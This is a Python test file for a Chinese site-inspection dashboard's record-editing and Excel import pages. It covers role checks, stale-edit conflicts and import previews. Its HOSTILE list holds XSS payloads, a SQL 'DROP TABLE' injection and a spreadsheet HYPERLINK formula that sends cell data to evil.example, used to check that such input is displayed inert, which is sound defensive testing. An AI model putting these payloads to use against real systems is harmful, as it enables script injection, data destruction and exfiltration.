"""记录管理 and Excel 导入导出 pages (AppTest, both engines): edits, stale-edit message, history,
import with preview and error report, role checks, hostile text shown inert."""

from __future__ import annotations

import streamlit as st
from sqlalchemy import func, select

from gangwen_dash.db import read_session
from gangwen_dash.models import AuditLog, Site, Street, User
from gangwen_dash.services import record_kinds, records, users
from gangwen_dash.ui.navigation import pages_for
from tests.support.apptest import app_test, record_picker
from tests.support.inspections import actor
from tests.support.records import load_for_edit
from tests.support.workbooks import TODAY, good_rows, to_bytes

HOSTILE = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'; DROP TABLE sites; --",
           '=HYPERLINK("http://evil.example/?x="&A1,"点我")']


def _open(engine, username: str, script: str):
    at = app_test(script)
    at.session_state["auth.actor"] = actor(engine, username)
    return at.run()


def _button(at, label: str):
    return next(b for b in at.button if b.label == label)


def _form_data(entity: str, values: dict) -> dict:
    return {f.name: values[f.name] for f in record_kinds.spec(entity).fields}


def test_navigation_shows_management_pages_to_the_secretariat_only():
    for role in ("chair", "inspector", "group_leader"):
        paths = {p.path for p in pages_for(role)}
        assert "pages/records.py" not in paths and "pages/data_exchange.py" not in paths
    paths = {p.path for p in pages_for("secretariat")}
    assert {"pages/records.py", "pages/data_exchange.py"} <= paths


def test_other_roles_are_turned_away(demo_engine):
    for script in ("pages/records.py", "pages/data_exchange.py"):
        at = _open(demo_engine, "chair", script)
        assert not at.exception
        assert any("无权访问此页面" in e.value for e in at.error)
        assert not at.button and not at.file_uploader


def test_edit_a_site_and_a_stale_edit_says_what_changed(demo_engine):
    with read_session(demo_engine) as s:
        site_id = s.execute(select(Site.id).order_by(Site.id)).scalars().first()
    at = _open(demo_engine, "admin", "pages/records.py")
    assert not at.exception
    at.selectbox(key="records.kind").set_value("site").run()
    record_picker(at).set_value(site_id).run()
    assert not at.exception
    opened = load_for_edit("site", site_id, engine=demo_engine)
    old_address = opened["address"]
    # Meanwhile someone else changes the address.
    other = actor(demo_engine, "admin")
    records.update(other, "site", site_id, _form_data("site", opened) | {"address": "幸福路88号"}, opened["version"],
                   engine=demo_engine)
    at.text_input(key=f"records.f.site.{site_id}.builder").set_value("新的建设单位")
    _button(at, "保存").click().run()
    message = " ".join(e.value for e in at.error)
    assert f"已被他人修改：地址：{old_address} → 幸福路88号" in message and "修改人：admin" in message
    # What was typed is still in the form.
    assert at.text_input(key=f"records.f.site.{site_id}.builder").value == "新的建设单位"
    with read_session(demo_engine) as s:
        site = s.get(Site, site_id)
        assert (site.address, site.version) == ("幸福路88号", 2) and site.builder != "新的建设单位"
    # Load the latest version, redo the change: saved as version 3.
    _button(at, "载入最新版本").click().run()
    at.text_input(key=f"records.f.site.{site_id}.builder").set_value("新的建设单位")
    _button(at, "保存").click().run()
    assert not at.error and any("第 3 版" in s.value for s in at.success)
    with read_session(demo_engine) as s:
        site = s.get(Site, site_id)
        assert (site.address, site.builder, site.version) == ("幸福路88号", "新的建设单位", 3)
    at.selectbox(key="records.h_kind").set_value("site").run()
    at.selectbox(key="records.h_pick").set_value(site_id).run()
    tables = [d.value for d in at.dataframe if "变更内容" in d.value.columns]
    assert tables and len(tables[0]) == 2
    assert "建设单位" in tables[0]["变更内容"].iloc[1] and "新的建设单位" in tables[0]["变更内容"].iloc[1]


def test_bad_input_shows_message_next_to_the_field_and_saves_nothing(demo_engine):
    at = _open(demo_engine, "admin", "pages/records.py")
    at.selectbox(key="records.kind").set_value("site").run()
    before = _count(demo_engine, Site)
    at.text_input(key="records.f.site.0.name").set_value("  ")
    at.number_input(key="records.f.site.0.lat").set_value(40.0)
    at.number_input(key="records.f.site.0.lon").set_value(120.8)
    _button(at, "保存").click().run()
    errors = [e.value for e in at.error]
    assert "工地名称不能为空" in errors
    assert _count(demo_engine, Site) == before


def _count(engine, model) -> int:
    with read_session(engine) as s:
        return s.execute(select(func.count()).select_from(model)).scalar_one()


def test_hostile_text_is_stored_verbatim_and_shown_as_plain_text(demo_engine):
    admin = actor(demo_engine, "admin")
    with read_session(demo_engine) as s:
        street = s.execute(select(Street.id)).scalars().first()
    for i, text in enumerate(HOSTILE):
        records.create(admin, "site", {"name": text, "street_id": street, "lat": 32.06, "lon": 120.82,
                                       "address": text, "builder": f"单位{i}"}, engine=demo_engine)
    with read_session(demo_engine) as s:
        stored = set(s.execute(select(Site.name).where(Site.builder.like("单位%"))).scalars())
    assert stored == set(HOSTILE)  # verbatim, nothing stripped or escaped in the database
    at = _open(demo_engine, "admin", "pages/records.py")
    at.selectbox(key="records.kind").set_value("site").run()
    at.text_input(key="records.search").set_value("").run()
    shown = set(at.dataframe[0].value["工地名称"])
    assert set(HOSTILE) <= shown  # in a data grid: displayed as text, never interpreted
    rendered = " ".join(m.value for m in at.markdown) + " ".join(c.value for c in at.caption)
    for text in HOSTILE:
        assert text not in rendered  # never passed to markdown/HTML
    assert not at.exception


def test_import_page_previews_reports_errors_then_imports(engine):
    from gangwen_dash.db import write_session
    from gangwen_dash.models import User
    from gangwen_dash.passwords import hash_password

    with write_session(engine) as s:
        s.add(User(username="admin", password_hash=hash_password("x" * 10), role="secretariat",
                   must_change_password=False))
    rows = good_rows()
    rows["工地"].append(["无名街道工地", "不存在街道", "", 32.06, 120.82, "", "在建"])
    at = _open(engine, "admin", "pages/data_exchange.py")
    assert not at.exception
    at.file_uploader(key="exchange.upload").set_value(("bad.xlsx", to_bytes(rows), "application/octet-stream")).run()
    _button(at, "检查文件（试导入）").click().run()
    assert any("整个文件未导入" in e.value for e in at.error)
    report = next(d.value for d in at.dataframe if "原因" in d.value.columns)
    assert list(report[["表", "行", "列"]].itertuples(index=False, name=None)) == [("工地", 4, "所属街道")]
    assert _count(engine, Site) == 0

    # Dates in good_rows are in the past relative to today, so the real import accepts them.
    assert TODAY.year == 2020
    at.file_uploader(key="exchange.upload").set_value(("good.xlsx", to_bytes(good_rows()),
                                                       "application/octet-stream")).run()
    _button(at, "检查文件（试导入）").click().run()
    assert any("将新增" in i.value for i in at.info)
    assert _count(engine, Site) == 0  # the check writes nothing
    _button(at, "确认导入").click().run()
    assert not at.exception
    assert any("已新增" in s.value for s in at.success)
    assert _count(engine, Site) == 2
    with read_session(engine) as s:
        assert s.execute(select(AuditLog.username).where(AuditLog.action == "data.import")).scalar_one() == "admin"


def test_account_edit_over_another_users_edit_is_refused_and_keeps_the_typed_values(demo_engine):
    with read_session(demo_engine) as s:
        user = s.execute(select(User).where(User.username == "inspector2")).scalar_one()
        uid, version, group_id = user.id, user.version, user.group_id
    at = _open(demo_engine, "admin", "pages/records.py")
    at.selectbox(key="records.u_pick").set_value(uid).run()
    assert at.text_input(key=f"records.u_e_display.{uid}").value == "第二督查组成员"
    # B renames the account meanwhile; B's page clears the shared read caches.
    users.update_user(actor(demo_engine, "admin"), uid, {"username": "inspector2", "display_name": "王五",
                                                         "role": "inspector", "group_id": group_id}, version,
                      engine=demo_engine)
    st.cache_data.clear()
    at.text_input(key=f"records.u_e_display.{uid}").set_value("李四")
    at.checkbox(key=f"records.u_e_active.{uid}").uncheck()
    _button(at, "保存账号").click().run()
    assert not at.exception
    message = " ".join(e.value for e in at.error)
    assert "用户“inspector2”已被他人修改：姓名：第二督查组成员 → 王五" in message and "修改人：admin" in message
    assert at.text_input(key=f"records.u_e_display.{uid}").value == "李四"  # nothing typed is lost
    assert at.checkbox(key=f"records.u_e_active.{uid}").value is False
    with read_session(demo_engine) as s:
        user = s.get(User, uid)
        assert (user.display_name, user.is_active, user.version) == ("王五", True, version + 1)
    # Reloading shows B's name; A's edit on top of it is saved.
    _button(at, "载入最新版本").click().run()
    assert at.text_input(key=f"records.u_e_display.{uid}").value == "王五"
    assert at.checkbox(key=f"records.u_e_active.{uid}").value is True
    at.text_input(key=f"records.u_e_display.{uid}").set_value("王五（组员）")
    _button(at, "保存账号").click().run()
    assert not at.error and any("已保存账号 inspector2" in s.value for s in at.success)
    with read_session(demo_engine) as s:
        assert (s.get(User, uid).display_name, s.get(User, uid).version) == ("王五（组员）", version + 2)
